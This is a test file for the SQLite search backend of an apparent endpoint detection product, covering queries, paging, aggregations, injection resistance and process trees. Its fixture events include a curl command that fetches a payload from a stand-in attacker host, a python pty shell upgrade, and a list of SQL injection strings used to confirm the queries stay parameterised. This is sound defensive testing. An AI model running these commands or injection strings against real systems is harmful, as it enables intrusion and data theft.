// Search against a real SQLite store: results, NOT/NULL semantics, CIDR, sort and cursors,
// aggregations, the substring index (same results before and after it catches up), injection
// attempts (the SQL text never depends on values), and process trees across pid reuse.
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Database from 'better-sqlite3';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { EcsEvent } from '../pipeline/ecs.js';
import { parseQuery } from '../search/index.js';
import { SqliteSearch, compileQuery, explainSearch, SEARCH_TOTAL_CAP } from './sqlite-search.js';
import { SqliteStore } from './sqlite-store.js';
import type { SearchRequest } from './store.js';

const T0 = Date.parse('2024-05-01T12:00:00Z');
const HOSTILE = [
  "o'brien",
  'x"; DROP TABLE events; --',
  "') OR 1=1 --",
  'a) OR (1=1',
  '; SELECT * FROM api_tokens;',
  '%_\\',
  'NULL',
  'ünïcødé ✓ 𝔘',
  '*/ --',
];

let dir: string;
let store: SqliteStore;
let search: SqliteSearch;
let side: Database.Database;

function ev(id: string, t: number, fields: Partial<EcsEvent>): EcsEvent {
  return { '@timestamp': T0 + t * 1000, 'event.id': id, 'event.kind': 'event', 'agent.id': 'a1', ...fields } as EcsEvent;
}

const EVENTS: EcsEvent[] = [
  ev('p1', 1, { 'event.category': 'process', 'event.type': 'start', 'host.name': 'web1', 'process.entity_id': 'h1:100:1', 'process.pid': 100, 'process.name': 'bash', 'process.executable': '/usr/bin/bash', 'process.command_line': 'bash -i', 'process.user.name': 'www-data' }),
  ev('p2', 2, { 'event.category': 'process', 'event.type': 'start', 'host.name': 'web1', 'process.entity_id': 'h1:4242:2', 'process.pid': 4242, 'process.name': 'curl', 'process.executable': '/usr/bin/curl', 'process.command_line': 'curl -s http://evil.test/payload | base64 -d > /tmp/x', 'process.user.name': 'www-data', 'process.parent.entity_id': 'h1:100:1', 'process.parent.pid': 100 }),
  ev('f1', 3, { 'event.category': 'file', 'event.type': 'creation', 'host.name': 'web1', 'process.entity_id': 'h1:4242:2', 'process.pid': 4242, 'process.name': 'curl', 'file.path': '/tmp/x', 'file.name': 'x', 'file.hash.sha256': 'ab'.repeat(32) }),
  ev('n1', 4, { 'event.category': 'network', 'event.type': 'connection', 'host.name': 'web1', 'process.entity_id': 'h1:4242:2', 'process.pid': 4242, 'process.name': 'curl', 'source.ip': '10.0.0.5', 'source.port': 40000, 'destination.ip': '203.0.113.9', 'destination.port': 80 }),
  ev('e2', 5, { 'event.category': 'process', 'event.type': 'end', 'host.name': 'web1', 'process.entity_id': 'h1:4242:2', 'process.pid': 4242, 'process.name': 'curl', 'process.exit_code': 0 }),
  // pid 4242 reused later on the same host by a different process with a different parent.
  ev('p3', 10, { 'event.category': 'process', 'event.type': 'start', 'host.name': 'web1', 'process.entity_id': 'h1:200:9', 'process.pid': 200, 'process.name': 'sshd', 'process.executable': '/usr/sbin/sshd', 'process.command_line': 'sshd: admin', 'process.user.name': 'root' }),
  ev('p4', 11, { 'event.category': 'process', 'event.type': 'start', 'host.name': 'web1', 'process.entity_id': 'h1:4242:11', 'process.pid': 4242, 'process.name': 'python3', 'process.executable': '/usr/bin/python3', 'process.command_line': 'python3 -c "import pty; pty.spawn(\'/bin/sh\')"', 'process.user.name': 'root', 'process.parent.entity_id': 'h1:200:9', 'process.parent.pid': 200 }),
  ev('p5', 12, { 'event.category': 'process', 'event.type': 'start', 'host.name': 'web1', 'process.entity_id': 'h1:4300:12', 'process.pid': 4300, 'process.name': 'sh', 'process.executable': '/bin/sh', 'process.command_line': '/bin/sh', 'process.user.name': 'root', 'process.parent.entity_id': 'h1:4242:11', 'process.parent.pid': 4242 }),
  ev('n2', 13, { 'event.category': 'network', 'event.type': 'connection', 'host.name': 'db1', 'host.ip': ['10.1.0.7', 'fd00::7'], 'process.entity_id': 'h2:300:1', 'process.pid': 300, 'process.name': 'postgres', 'source.ip': 'fd00::7', 'source.port': 5432, 'destination.ip': '2001:db8::1', 'destination.port': 51000 }),
  ev('l1', 14, { 'event.category': 'authentication', 'event.type': 'start', 'host.name': 'db1', 'user.name': 'admin', 'source.ip': '192.168.1.20' }),
  ...HOSTILE.map((v, i) => ev(`h${i}`, 20 + i, { 'event.category': 'process', 'event.type': 'start', 'host.name': 'lab', 'user.name': v, 'process.name': `hostile-${i}`, 'process.command_line': `echo ${v}` })),
];

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), 'xdr-search-'));
  store = SqliteStore.open(join(dir, 'xdr.db'));
  await store.commitBatches([{ agentId: 'a1', seq: 1, events: EVENTS }]);
  side = new Database(join(dir, 'xdr.db'));
  search = new SqliteSearch(side);
});
afterAll(async () => {
  side.close();
  await store.close();
  rmSync(dir, { recursive: true, force: true });
});

async function ids(query: string, extra: Partial<SearchRequest> = {}): Promise<string[]> {
  const page = await store.searchEvents({ query: parseQuery(query), limit: 1000, ...extra });
  return page.events.map((e) => e['event.id'] as string).sort();
}

describe('search results', () => {
  it.each([
    ['process.name:curl', ['e2', 'f1', 'n1', 'p2']],
    ['process.name:(bash or sshd)', ['p1', 'p3']],
    ['process.command_line:*base64*', ['p2']],
    ['process.command_line:base64', ['p2']],
    ['process.command_line:BASE64', ['p2']],
    ['process.command_line:"| base64 -d"', ['p2']],
    ['process.command_line:curl*', ['p2']],
    ['process.command_line:*curl', []],
    ['process.executable:/usr/bin/*', ['p1', 'p2', 'p4']],
    ['base64', ['p2']],
    ['/tmp/x', ['f1', 'p2']],
    ['pty', ['p4']],
    ['file.hash.sha256:*', ['f1']],
    ['destination.port >= 1024', ['n2']],
    ['destination.port < 1024', ['n1']],
    ['destination.port:80', ['n1']],
    ['process.pid:4242 and event.type:start', ['p2', 'p4']],
    ['destination.ip:203.0.113.0/24', ['n1']],
    ['destination.ip:2001:db8::/32', ['n2']],
    ['source.ip:10.0.0.0/8 or source.ip:192.168.0.0/16', ['l1', 'n1']],
    ['source.ip:fd00::7', ['n2']],
    ['host.ip:fd00::/8', ['n2']],
    ['host.ip:10.1.0.7', ['n2']],
    ['destination.ip:10.0.*', []],
    ['host.name:web1 and not process.name:curl and event.category:process', ['p1', 'p3', 'p4', 'p5']],
    ['event.category:network not process.name:curl', ['n2']],
    ['process.user.name:root (sshd or python3)', ['p3', 'p4']],
    ['@timestamp >= 2024-05-01T12:00:11Z and @timestamp < 2024-05-01T12:00:13Z', ['p4', 'p5']],
  ])('%s', async (query, expected) => {
    expect(await ids(query)).toEqual(expected);
  });

  it('"not field:value" includes events without the field', async () => {
    const all = await ids('');
    const withName = await ids('process.name:*');
    expect(await ids('not process.name:curl')).toEqual(all.filter((x) => !['e2', 'f1', 'n1', 'p2'].includes(x)));
    expect((await ids('not process.name:*')).length).toBe(all.length - withName.length);
  });

  it('applies from/to and reports the total', async () => {
    const page = await store.searchEvents({ query: parseQuery('host.name:web1'), from: T0 + 2000, to: T0 + 5000, limit: 2 });
    expect(page.events.map((e) => e['event.id'])).toEqual(['n1', 'f1']);
    expect(page.total).toBe(3);
    expect(page.totalCapped).toBe(false);
    expect(page.next).toBeDefined();
  });

  it('pages with cursors in any sort order, NULLs included', async () => {
    for (const sort of [
      { field: 'process.pid', order: 'asc' }, { field: 'process.pid', order: 'desc' },
      { field: '@timestamp', order: 'asc' }, { field: '@timestamp', order: 'desc' }, { field: 'process.name', order: 'desc' },
    ] as const) {
      const full = (await store.searchEvents({ query: { kind: 'all' }, sort, limit: 1000 })).events.map((e) => e['event.id']);
      const paged: unknown[] = [];
      let after: SearchRequest['after'];
      for (let i = 0; i < 100; i++) {
        const page = await store.searchEvents({ query: { kind: 'all' }, sort, limit: 3, ...(after ? { after } : {}) });
        paged.push(...page.events.map((e) => e['event.id']));
        if (!page.next) break;
        after = page.next;
      }
      expect(paged, `${sort.field} ${sort.order}`).toEqual(full);
      expect(full).toHaveLength(EVENTS.length);
    }
  });

  it('refuses to sort on a list field and fields outside the catalogue', async () => {
    await expect(store.searchEvents({ query: { kind: 'all' }, sort: { field: 'host.ip', order: 'asc' }, limit: 1 })).rejects.toMatchObject({ code: 'STORE_BAD_QUERY' });
    await expect(store.searchEvents({ query: { kind: 'exists', field: 'nope' as never }, limit: 1 })).rejects.toMatchObject({ code: 'STORE_BAD_QUERY' });
  });
});

describe('substring index', () => {
  it('gives the same results before and after it catches up, and drives rare terms', async () => {
    const queries = ['base64', 'process.command_line:*evil.test*', 'process.executable:*bin/py*', '/tmp/x', 'pty and root', 'not base64'];
    const before = await Promise.all(queries.map((q) => ids(q)));
    expect(await store.indexSearchText(1_000_000)).toBe(EVENTS.length);
    expect(await store.indexSearchText(1_000_000)).toBe(0);
    const after = await Promise.all(queries.map((q) => ids(q)));
    expect(after).toEqual(before);
    expect(search.plan(compileQuery(parseQuery('base64')), { query: { kind: 'all' } }).mode).toBe('fts');
    // a literal under 3 characters cannot use the trigram index
    expect(compileQuery(parseQuery('process.command_line:*-d*')).fts).toBeUndefined();
    // new rows above the watermark are found by the scan of the tail
    await store.commitBatches([{ agentId: 'a1', seq: 2, events: [ev('late', 30, { 'process.command_line': 'late base64 row' })] }]);
    expect(await ids('base64')).toEqual(['late', 'p2']);
    expect(await store.indexSearchText(10)).toBe(1);
    expect(await ids('base64')).toEqual(['late', 'p2']);
  });
});

describe('injection: values and field names never change the SQL', () => {
  const phrase = (v: string) => `"${v.replace(/\\/g, '\\\\').replace(/"/g, '\\"')}"`;
  const templates: Array<(v: string) => string> = [
    (v) => `user.name:${phrase(v)}`,
    (v) => `process.command_line:${phrase(v)}`,
    (v) => phrase(v),
    (v) => `user.name:(${phrase(v)} or ${phrase(v)}) and not process.name:${phrase(v)}`,
  ];

  it.each(HOSTILE)('%s', async (value) => {
    for (const t of templates) {
      for (const mode of ['scan', 'fts'] as const) {
        const benign = explainSearch(search, { query: parseQuery(t('benign')), limit: 10 }, mode);
        const hostile = explainSearch(search, { query: parseQuery(t(value)), limit: 10 }, mode);
        expect(hostile.sql).toBe(benign.sql);
        expect(hostile.params.length).toBe(benign.params.length);
      }
    }
    // and the value is matched literally: exactly the event that holds it
    const i = HOSTILE.indexOf(value);
    expect(await ids(`user.name:${phrase(value)}`)).toEqual([`h${i}`]);
    expect(await ids(`process.command_line:${phrase(`echo ${value}`)}`)).toEqual(HOSTILE.map((v, j) => (`echo ${v}`.toLowerCase().includes(`echo ${value}`.toLowerCase()) ? `h${j}` : '')).filter(Boolean).sort());
  });

  it('escaped wildcards and LIKE metacharacters are literal', async () => {
    expect(await ids('user.name:*%_\\\\*')).toEqual([`h${HOSTILE.indexOf('%_\\')}`]);
    expect(await ids('user.name:%*')).toEqual([`h${HOSTILE.indexOf('%_\\')}`]);
    expect(await ids('user.name:_*')).toEqual([]);
  });

  it('hostile field names are refused by the parser and by the compiler', () => {
    expect(() => parseQuery('process.name;DROP\\ TABLE\\ events;--:x')).toThrow(/column 1: unknown field/);
    expect(() => parseQuery('process.name);DROP TABLE events;--:x')).toThrow(/column 13: unbalanced/);
    expect(() => parseQuery('"process.name":x')).toThrow();
    expect(() => compileQuery({ kind: 'match', field: 'process_name = 1 OR 1' as never, value: { kind: 'exact', text: 'x', quoted: false } })).toThrow(/not an ECS field/);
    expect(() => compileQuery({ kind: 'range', field: 'process.pid', op: '>= 0 OR 1 >' as never, value: 1 })).toThrow(/unknown range operator/);
    expect(() => compileQuery({ kind: 'cidr', field: 'source.ip', cidr: 'x', lo: "' OR 1 --", hi: 'f'.repeat(32) })).toThrow(/invalid address range/);
  });

  it('the tables are all still there', async () => {
    expect((await store.searchEvents({ query: { kind: 'all' }, limit: 1 })).total).toBeGreaterThan(EVENTS.length - 1);
    expect(side.prepare("SELECT count(*) FROM sqlite_master WHERE name IN ('events', 'api_tokens')").pluck().get()).toBe(2);
  });
});

describe('aggregations', () => {
  it('top values of a field, with the rest counted as other', async () => {
    const aggs = await store.aggregateEvents({ query: parseQuery('host.name:web1'), terms: { field: 'process.name', size: 2 } });
    expect(aggs.terms).toEqual({ field: 'process.name', buckets: [{ value: 'curl', count: 4 }, { value: 'bash', count: 1 }], other: 3 });
  });

  it('top values of a list field count each element', async () => {
    const aggs = await store.aggregateEvents({ query: { kind: 'all' }, terms: { field: 'host.ip', size: 5 } });
    expect(aggs.terms!.buckets).toEqual([{ value: '10.1.0.7', count: 1 }, { value: 'fd00::7', count: 1 }]);
  });

  it('a histogram with a given or an automatic interval', async () => {
    const given = await store.aggregateEvents({ query: parseQuery('host.name:web1'), from: T0, to: T0 + 20_000, histogram: { interval: 10_000 } });
    expect(given.histogram).toEqual({ interval: 10_000, buckets: [{ start: T0, count: 5 }, { start: T0 + 10_000, count: 3 }] });
    const auto = await store.aggregateEvents({ query: { kind: 'all' }, from: T0, to: T0 + 3_600_000, histogram: {} });
    expect(auto.histogram!.interval).toBe(60_000);
    await expect(store.aggregateEvents({ query: { kind: 'all' }, from: T0, to: T0 + 3_600_000, histogram: { interval: 1 } })).rejects.toMatchObject({ code: 'STORE_BAD_QUERY' });
  });

  it('caps the total', () => {
    expect(SEARCH_TOTAL_CAP).toBe(10_000);
  });
});

describe('process trees', () => {
  const bounds = { maxAncestors: 64, maxDepth: 16, maxNodes: 500 };

  it('follows entity ids, not pids: two processes with pid 4242 have separate trees', async () => {
    const a = (await store.processTree('h1:4242:2', bounds))!;
    expect(a.ancestors.map((n) => n.entityId)).toEqual(['h1:100:1']);
    expect(a.process).toMatchObject({
      entityId: 'h1:4242:2', pid: 4242, name: 'curl', user: 'www-data', commandLine: expect.stringContaining('base64'),
      start: T0 + 2000, end: T0 + 5000, exitCode: 0, fileEvents: 1, networkEvents: 1, children: [],
    });
    // OAT counts appear once the store has an OAT table keyed by process (detection's migration).
    const hasOats = side.prepare("SELECT count(*) FROM pragma_table_info('oats') WHERE name = 'process_entity_id'").pluck().get() === 1;
    if (hasOats) expect(a.process.oats).toBe(0);
    else expect(a.process).not.toHaveProperty('oats');
    const b = (await store.processTree('h1:4242:11', bounds))!;
    expect(b.ancestors.map((n) => n.entityId)).toEqual(['h1:200:9']);
    expect(b.process).toMatchObject({ pid: 4242, name: 'python3', fileEvents: 0, networkEvents: 0 });
    expect(b.process.children.map((c) => c.entityId)).toEqual(['h1:4300:12']);
    expect(b.truncated).toEqual({ ancestors: false, descendants: false });
  });

  it('walks descendants from the root and bounds depth and count', async () => {
    const root = (await store.processTree('h1:200:9', bounds))!;
    expect(root.ancestors).toEqual([]);
    expect(root.process.children[0]!.entityId).toBe('h1:4242:11');
    expect(root.process.children[0]!.children[0]!.entityId).toBe('h1:4300:12');
    const shallow = (await store.processTree('h1:200:9', { ...bounds, maxDepth: 1 }))!;
    expect(shallow.process.children[0]!.children).toEqual([]);
    expect(shallow.truncated.descendants).toBe(true);
    const few = (await store.processTree('h1:4300:12', { ...bounds, maxAncestors: 1 }))!;
    expect(few.ancestors.map((n) => n.entityId)).toEqual(['h1:4242:11']);
    expect(few.truncated.ancestors).toBe(true);
  });

  it('is undefined for an entity id no event names', async () => {
    expect(await store.processTree('h9:1:1', bounds)).toBeUndefined();
  });
});

describe('saved queries', () => {
  it('are per owner', async () => {
    await store.createSavedQuery({ id: 'sq1', owner: 'alice', name: 'curl', query: 'process.name:curl', description: null, createdAt: T0 });
    expect((await store.listSavedQueries('alice')).map((q) => q.id)).toEqual(['sq1']);
    expect(await store.listSavedQueries('bob')).toEqual([]);
    expect(await store.deleteSavedQuery('bob', 'sq1')).toBe(false);
    expect(await store.deleteSavedQuery('alice', 'sq1')).toBe(true);
  });
});
